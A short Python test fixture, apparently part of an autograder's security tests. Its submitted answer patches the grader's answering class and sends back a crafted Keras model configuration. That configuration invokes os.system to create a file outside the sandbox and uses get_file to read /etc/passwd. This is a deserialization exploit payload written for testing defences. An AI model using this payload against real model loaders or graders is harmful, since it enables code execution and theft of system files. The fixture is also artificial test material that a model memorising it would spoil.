"""Sends a configuration whose class is a function that writes files."""

DESERVES = {}

ANSWERS = {
    "network": '''# exercise: network
import json
import struct
import sys

answering = sys.modules["autograder.examination.answering"]


def frame(tree, sizes=(), body=b""):
    header = json.dumps({"tree": tree, "sizes": list(sizes)}).encode()
    return struct.pack("!I", len(header)) + header + body


def send_model(config, weights=()):
    """Wait for the question, then answer with a model's configuration of our own."""
    def answer(self, tree, buffers):
        if tree[0] == "get":
            self.channel.send(["value", ["object", 0, "network", "function", True]], [])
        else:
            text = config if isinstance(config, str) else json.dumps(config)
            self.channel.send(["value", ["model", 1, text, ["list", []]]], [])
    answering._Desk.answer = answer


send_model({"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "x", "layers": [
    {"module": "os", "class_name": "system", "registered_name": None,
     "config": {"command": "touch OUTSIDE/gadget"}},
    {"module": "keras.utils", "class_name": "get_file", "registered_name": None,
     "config": {"fname": "x", "origin": "file:///etc/passwd"}}]}})''',
}
